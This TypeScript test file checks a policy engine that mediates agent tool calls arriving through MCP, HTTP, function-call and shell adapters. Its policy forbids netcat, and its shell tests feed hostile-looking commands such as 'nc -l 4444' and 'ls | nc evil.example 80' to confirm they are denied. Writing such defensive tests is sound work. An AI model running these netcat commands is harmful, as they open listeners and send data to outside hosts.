/**
 * Session.decideRequest: from a protocol request to a decision in one call, through the adapters and wrapper
 * resolution, never throwing.
 */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { compileSource } from "../../compiler/compile.js";
import { memoryHost } from "../../compiler/host.js";
import { makeSource } from "../../language/index.js";
import { loadPolicy, type LoadOptions } from "../api.js";
import { fromFunctionCall } from "./function-call.js";
import { fromHttp } from "./http.js";
import { fromMcp } from "./mcp.js";
import { prepare } from "../enforce/prepare.js";
import { wrapperArgs } from "./normalize.js";
import { fromShell } from "./shell.js";

const obj = (properties: Record<string, unknown>, required: string[]) => ({
  type: "object",
  properties,
  required,
  additionalProperties: false,
});
const TOOLS = JSON.stringify({
  tools: [
    { name: "query", inputSchema: obj({ sql: { type: "string" }, limit: { type: "integer" } }, ["sql"]) },
    {
      name: "create",
      inputSchema: obj({ amount: { type: "number" }, to: { type: "string" } }, ["amount", "to"]),
    },
  ],
});

const POLICY = `policy "mediation" version "1.0.0"
default deny
tools from "tools.json" as db
tools from "payments.json" as payments
@id("no-nc") forbid process.exec path "/usr/bin/nc" because "netcat is never run"
@id("limit") modify db.query when args.limit > 100 { set args.limit = 100 }
@id("big") deny payments.create when args.amount > 1000 because "over the payment limit"
allow db.query, payments.create, process.exec
`;

const compiled = compileSource(
  makeSource("/p/policy.aarm", POLICY),
  memoryHost({ "/p/tools.json": TOOLS, "/p/payments.json": TOOLS }),
);
if (!compiled.ir) throw new Error(compiled.diagnostics.map((d) => d.message).join("\n"));
const ir = compiled.ir;
const T = 1_700_000_000_000;
const open = (options: LoadOptions = {}) =>
  loadPolicy(ir, { clock: () => T, ...options }).openSession({ id: "s1", identity: { human: "alice" } });
const mcp = (id: number, name: string, args: Record<string, unknown>) => ({
  jsonrpc: "2.0",
  id,
  method: "tools/call",
  params: { name, arguments: args },
});

describe("Session.decideRequest", () => {
  it("goes from an MCP request to a decision in one call", () => {
    const s = open();
    const d = s.decideRequest(fromMcp(mcp(1, "query", { sql: "select 1", limit: 500 }), { prefix: "db" }));
    expect([d.effect, d.modifiedArgs]).toEqual(["MODIFY", { sql: "select 1", limit: 100 }]);
    expect(d.action).toMatchObject({
      tool: "db.query",
      operation: "tools/call",
      session: "s1",
      time: T,
      identity: { human: "alice" },
      source: { kind: "mcp", requestId: 1 },
    });
    expect(d.action.id).toMatch(/^act_[0-9a-f]{16}$/);
    // The same request in another session of the same shape normalises to the same id.
    expect(
      open().decideRequest(fromMcp(mcp(1, "query", { limit: 500, sql: "select 1" }), { prefix: "db" })).action
        .id,
    ).toBe(d.action.id);
  });

  it("R1 [C41] resolves wrappers before deciding, keeps the wrapper for audit, and can re-wrap modified arguments", () => {
    const s = open();
    const args = {
      mcp_server_name: "db",
      mcp_tool_name: "query",
      arguments: { sql: "select 1", limit: 500 },
    };
    const d = s.decideRequest(fromMcp(mcp(2, "mcp_tool", args)));
    expect([d.effect, d.action.tool]).toEqual(["MODIFY", "db.query"]);
    expect(d.action.wrapper).toEqual({ tool: "mcp_tool", args, chain: ["mcp_tool"] });
    expect(s.state.log.entries.at(-1)?.data).toMatchObject({ tool: "db.query", wrapper: ["mcp_tool"] });
    const rewrapped = wrapperArgs(d.action, d.modifiedArgs ?? {});
    expect(rewrapped).toEqual({ ok: true, args: { ...args, arguments: { sql: "select 1", limit: 100 } } });
  });

  it("denies what cannot be mediated, naming the field, and never throws", () => {
    const s = open();
    const d = s.decideRequest(
      fromMcp({ jsonrpc: "2.0", id: 3, method: "tools/call", params: { arguments: {} } }),
    );
    expect([d.effect, d.decidedBy, d.reasons]).toEqual([
      "DENY",
      "validation",
      ["invalid request: params.name: is required"],
    ]);
    expect(d.mediationError).toEqual({ code: "invalid_request", field: "params.name" });
    for (const junk of [null, 42, "x", { ok: true, request: null }, { ok: true }, { tool: "db.query" }]) {
      expect(s.decideRequest(junk as never).effect).toBe("DENY");
    }
    const deep = s.decideRequest(
      fromFunctionCall("mcp_tool", { mcp_server_name: "db", mcp_tool_name: "query" }),
      {},
    );
    expect(deep.effect).toBe("DENY"); // resolved to db.query with {}: the schema requires sql
    const refused = open({ mediation: { maxWrapperDepth: 0 } }).decideRequest(
      fromMcp(mcp(4, "mcp_tool", { mcp_server_name: "db", mcp_tool_name: "query" })),
    );
    expect([refused.effect, refused.mediationError?.code]).toEqual(["DENY", "wrapper_depth"]);
    expect(s.state.log.entries.filter((e) => e.kind === "action").length).toBe(8);
  });

  it("routes HTTP requests and checks the identity they assert", () => {
    const routes = [{ prefix: "api.example.com/v1/payments", method: "POST", tool: "payments.create" }];
    const req = (user: string, amount: number) =>
      fromHttp(
        {
          method: "POST",
          url: "https://api.example.com/v1/payments",
          headers: { "x-user-id": user },
          body: { amount, to: "DE89" },
        },
        { routes },
      );
    expect(open().decideRequest(req("alice", 10)).effect).toBe("ALLOW");
    expect(open().decideRequest(req("alice", 5000)).ruleIds).toEqual(["big"]);
    const spoofed = open().decideRequest(req("bob", 10));
    expect([spoofed.effect, spoofed.mediationError?.code]).toEqual(["DENY", "identity_mismatch"]);
  });

  it("decides shell commands as process.exec; kernel path rules see the binary PATH resolves to", () => {
    const exists = (p: string) => p === "/usr/bin/nc" || p === "/usr/bin/ls";
    const s = open();
    const nc = s.decideRequest(fromShell("nc -l 4444", { PATH: "/usr/local/bin:/usr/bin", exists }));
    expect([nc.effect, nc.ruleIds, nc.action.args]).toEqual([
      "DENY",
      ["no-nc"],
      { path: "/usr/bin/nc", argv: ["nc", "-l", "4444"] },
    ]);
    expect(s.decideRequest(fromShell("ls -la", { PATH: "/usr/local/bin:/usr/bin", exists })).effect).toBe(
      "ALLOW",
    );
    expect(s.decideRequest(fromShell("/usr/bin/nc -l 4444")).effect).toBe("DENY");
    expect(s.decideRequest(fromShell("ls | nc evil.example 80")).mediationError?.code).toBe("shell_syntax");
  });

  it("decides a request the enforcement layer normalised once as decideRequest decides it, duplicates refused", () => {
    const requests = [
      fromMcp(mcp(3, "query", { sql: "select 1", limit: 500 }), { prefix: "db" }),
      fromShell("sh -c 'nc -l 4444'"),
      fromFunctionCall("payments.create", { amount: 5000, to: "x" }),
      fromHttp(
        { method: "POST", url: "https://api.example.com/v1/payments", body: { amount: 5, to: "DE89" } },
        { routes: [{ prefix: "api.example.com/v1/payments", method: "POST", tool: "payments.create" }] },
      ),
    ];
    for (const [i, request] of requests.entries()) {
      const once = open();
      const p = prepare(once, request, {}, T, i + 1);
      const twice = open().decideRequest(request, {
        id: p.action.id,
        time: p.action.time,
        nonce: `e${i + 1}`,
      });
      const d = p.decide();
      expect(d).toEqual(twice);
      expect(d.action).toEqual(p.action);
      expect(once.decideNormalized(p.action as never)).toMatchObject({
        effect: "DENY",
        decidedBy: "validation",
        reasons: [expect.stringMatching(/^duplicate action id 'act_[0-9a-f]{16}'/)],
      });
    }
  });

  it("decideNormalized refuses what normalisation did not make for this session", () => {
    const request = fromFunctionCall("db.query", { sql: "select 1" });
    const s = open();
    const p = prepare(s, request, {}, T, 1);
    const refusedFor = (action: unknown) => s.decideNormalized(action as never);
    const copy = { ...p.action };
    for (const action of [copy, structuredClone(p.action), null, 42, { tool: "db.query", args: {} }]) {
      expect(refusedFor(action)).toMatchObject({
        effect: "DENY",
        decidedBy: "validation",
        reasons: [expect.stringMatching(/^not an action normalised for this session/)],
      });
    }
    // Another session's action is refused here, and still decided in its own session.
    const other = loadPolicy(ir, { clock: () => T }).openSession({ id: "s2", identity: { human: "alice" } });
    const q = prepare(other, request, {}, T, 1);
    expect(refusedFor(q.action).effect).toBe("DENY");
    expect(q.decide().effect).toBe("ALLOW");
    expect(p.decide().effect).toBe("ALLOW");
  });

  it("gives identical calls distinct ids, but refuses a repeated MCP request id at the same time", () => {
    const s = open();
    const a = s.decideRequest(fromFunctionCall("db.query", { sql: "select 1" }));
    const b = s.decideRequest(fromFunctionCall("db.query", { sql: "select 1" }));
    expect([a.effect, b.effect]).toEqual(["ALLOW", "ALLOW"]);
    expect(a.action.id).not.toBe(b.action.id);
    expect(s.decideRequest(fromMcp(mcp(9, "query", { sql: "x" }), { prefix: "db" })).effect).toBe("ALLOW");
    const replay = s.decideRequest(fromMcp(mcp(9, "query", { sql: "x" }), { prefix: "db" }));
    expect(replay.effect).toBe("DENY");
    expect(replay.reasons[0]).toMatch(/^duplicate action id 'act_[0-9a-f]{16}'/);
  });

  it("records results of mediated actions like any other", () => {
    const s = open();
    const d = s.decideRequest(fromFunctionCall("db.query", { sql: "select 1" }), { time: T + 5 });
    expect(d.action.time).toBe(T + 5);
    expect(s.record(d.action.id, { output: "ok" })).toEqual({ labels: [], level: 3 });
  });

  it("never throws, whatever it is given", () => {
    const s = open();
    fc.assert(
      fc.property(fc.anything(), fc.anything(), (input, options) => {
        const d = s.decideRequest(input as never, options as never);
        expect(["DENY", "ALLOW", "MODIFY"]).toContain(d.effect);
        const viaMcp = s.decideRequest(fromMcp(input));
        expect(viaMcp.effect).toBe("DENY");
      }),
      { numRuns: 300 },
    );
  });
});
